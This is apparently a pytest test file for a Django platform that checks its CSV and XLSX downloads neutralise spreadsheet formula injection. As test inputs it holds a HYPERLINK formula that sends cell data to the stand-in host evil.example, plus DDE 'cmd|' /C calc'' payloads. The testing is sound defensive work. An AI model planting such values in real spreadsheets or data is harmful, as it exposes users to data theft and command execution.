"""Issue 13: no CSV or XLSX the platform hands out contains a cell a spreadsheet would run as a formula.

Every download (and every rejects file of the import commands) is fetched here with a malicious value in
the data it exports; the test fails on any cell that starts with = + - @ tab or CR (plain signed numbers
aside) and checks that the malicious value did reach the file, neutralised. A guard test makes sure that
a new CSV/XLSX writer cannot appear outside `core.tabular`'s helpers without being listed here."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from viaviden.companies.models import Company
from viaviden.core.tabular import FORMULA_PREFIXES, safe_cell, safe_row
from viaviden.matches.tests.factories import CompanyFactory, make_match
from viaviden.organisations.models import Organisation, User
from viaviden.organisations.tests.factories import UserFactory, login_verified
from viaviden.reports.views_dashboard import EXPORT_TABLES

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
EVIL_TAB = "\t=1+1"
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
ROOT = Path(__file__).resolve().parents[2]


def _cells_of(content: bytes, content_type: str) -> list[str]:
    if "spreadsheetml" in content_type:
        ws = load_workbook(io.BytesIO(content)).active
        cells = []
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                cells.append("" if cell.value is None else str(cell.value))
        return cells
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") >= text.split("\n", 1)[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_neutralised(content: bytes, content_type: str, *, evil: str = EVIL) -> None:
    cells = _cells_of(content, content_type)
    dangerous = [c for c in cells if c[:1] in FORMULA_PREFIXES and not _PLAIN_NUMBER.fullmatch(c)]
    assert dangerous == []
    assert any(evil.strip("\t") in c and c.startswith("'") for c in cells), "the malicious value was not exported"


def _client(user: User) -> Client:
    return login_verified(Client(), user)


def _download(response):
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content, response["Content-Type"]


# --- The helper ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"])
def test_safe_cell_neutralises_formula_starts(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-1200", "+45", "-1.200,50", "Aalborg", "", 42, -3.5, None])
def test_safe_cell_keeps_numbers_and_plain_text(value):
    assert safe_cell(value) == value


def test_safe_row():
    assert safe_row(["a", EVIL, 1]) == ["a", "'" + EVIL, 1]


# --- Every download ------------------------------------------------------------------------------------


def test_match_registry_export():
    make_match(organisation="jobcenter-hjoerring", company=CompanyFactory(name=EVIL))
    user = UserFactory(organisation="jobcenter-hjoerring", role=User.Role.PARTNER_STAFF)
    assert_neutralised(*_download(_client(user).get(reverse("match_list_export"))))


def _evil_names() -> None:
    """Every name-like text column of the reference rows the dashboard shows carries the value."""
    from django.apps import apps

    for label in ("reference.Municipality", "organisations.Organisation", "matches.EducationLevel",
                  "reference.MatchType", "matches.ActivityTarget", "matches.Programme"):
        try:
            model = apps.get_model(label)
        except LookupError:
            continue
        fields = {f.name for f in model._meta.get_fields() if getattr(f, "max_length", None) and not f.unique}
        names = fields & {"name", "label", "title", "short_name", "description"}
        if names:
            model.objects.update(**dict.fromkeys(names, EVIL[: min(model._meta.get_field(n).max_length for n in names)]))


@pytest.mark.parametrize("table", EXPORT_TABLES)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_dashboard_exports(table, fmt):
    make_match(organisation="jobcenter-hjoerring", municipality="851")
    _evil_names()
    user = UserFactory(organisation="kkr-nordjylland", role=User.Role.STEERING_GROUP)
    content, content_type = _download(_client(user).get(reverse("dashboard_export", args=[table, fmt])))
    cells = _cells_of(content, content_type)
    if not any(EVIL[:20] in c for c in cells):
        pytest.skip(f"the {table} table has no name column")
    assert_neutralised(content, content_type, evil=EVIL[:20])


def test_answer_times_export():
    from viaviden.companies.tests.test_referrals_support import make_referral

    make_referral()
    Organisation.objects.update(name=EVIL, short_name=EVIL)
    user = UserFactory(organisation="koordinationsgruppen", role=User.Role.COORDINATOR)
    response = _client(user).get(reverse("answer_times_report"),
                                 {"export": "csv", "date_from": "2000-01-01", "date_to": "2099-12-31"})
    assert_neutralised(*_download(response))


def test_case_coverage_export():
    Organisation.objects.filter(slug="ucn").update(name=EVIL)
    user = UserFactory(organisation="koordinationsgruppen", role=User.Role.COORDINATOR)
    assert_neutralised(*_download(_client(user).get(reverse("case_staff_coverage_csv"))))


def test_vaekstpilot_payment_list_export():
    from viaviden.vaekstpilot import services
    from viaviden.vaekstpilot.tests.factories import lead_user, make_application, partner_user

    app = make_application(user=partner_user())
    lead = lead_user(username="evil-lead")
    march = app.months.order_by("month").first()
    services.month_report(application=app, month_id=march.pk, wage_ore=3_000_000, employment_confirmed=True,
                          by_company=True)
    services.month_approve(user=lead, month=march)
    plist = services.payment_list_create(user=lead)
    Company.objects.filter(pk=app.company_id).update(name=EVIL)
    assert_neutralised(*_download(_client(lead).get(reverse("vaekstpilot_payment_csv", args=[plist.pk]))))


def test_company_import_page_rejects_download():
    user = UserFactory(organisation="jobcenter-hjoerring", role=User.Role.PARTNER_STAFF)
    client = _client(user)
    upload = io.BytesIO(f"cvr;navn;kommune\r\n12345678;{EVIL.replace(chr(34), '')};Thisted\r\n".encode())
    upload.name = "virksomheder.csv"
    client.post(reverse("company_import"), {"file": upload, "skip_invalid": "on"})
    assert_neutralised(*_download(client.get(reverse("company_import_rejects"))), evil=EVIL.replace('"', ""))


def test_import_matches_rejects_file(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text(f"cvr;virksomhed;kommune;matchtype;startdato;niveau\r\n12345678;{EVIL_TAB};Hjørring;"
                      "Studiejob;01-09-2021;LVU\r\n", encoding="utf-8")
    rejects = tmp_path / "r.csv"
    call_command("import_matches", str(source), "--organisation", "aau", "--skip-invalid", "--rejects", str(rejects))
    assert_neutralised(rejects.read_bytes(), "text/csv", evil=EVIL_TAB)


def test_import_companies_rejects_file(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("cvr;navn;kommune\r\n12345678;@SUM(1+1)*cmd|' /C calc'!A0;Thisted\r\n", encoding="utf-8")
    rejects = tmp_path / "r.csv"
    call_command("import_companies", str(source), "--skip-invalid", "--rejects", str(rejects))
    assert_neutralised(rejects.read_bytes(), "text/csv", evil="@SUM(1+1)")


# --- Nothing writes a spreadsheet around the helper -----------------------------------------------------

# Files that write CSV/XLSX, each walked above. Machine interchange files (the bourse solver's instance
# folder in assignment/io.py, read back by the solver itself) are not for spreadsheets and keep raw values.
WALKED = {
    "viaviden/core/tabular.py",
    "viaviden/matches/views/registry.py",
    "viaviden/matches/views/progress.py",
    "viaviden/companies/views_referrals.py",
    "viaviden/companies/views.py",
    "viaviden/cases/views_staff.py",
    "viaviden/vaekstpilot/views.py",
}
MACHINE_FILES = {"viaviden/assignment/io.py"}


def test_every_csv_or_xlsx_writer_is_walked_and_uses_the_helper():
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|text/csv|spreadsheetml")
    unsafe = re.compile(r"(?<!safe_)csv\.writer\(|csv\.DictWriter\(|\.append\((?!safe_row)")
    unknown, raw = [], []
    for path in sorted((ROOT / "viaviden").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if "/tests/" in rel or "/migrations/" in rel or rel in MACHINE_FILES:
            continue
        source = path.read_text(encoding="utf-8")
        if not writers.search(source):
            continue
        if rel not in WALKED:
            unknown.append(rel)
        for line in source.splitlines():
            if "csv.writer(" in line and "safe_csv_writer" not in line and rel != "viaviden/core/tabular.py":
                raw.append(f"{rel}: {line.strip()}")
            if "ws.append(" in line and "safe_row" not in line:
                raw.append(f"{rel}: {line.strip()}")
    assert unknown == [], "a new CSV/XLSX download: add it to this test (and write it with core.tabular's helpers)"
    assert raw == []
    assert unsafe.pattern
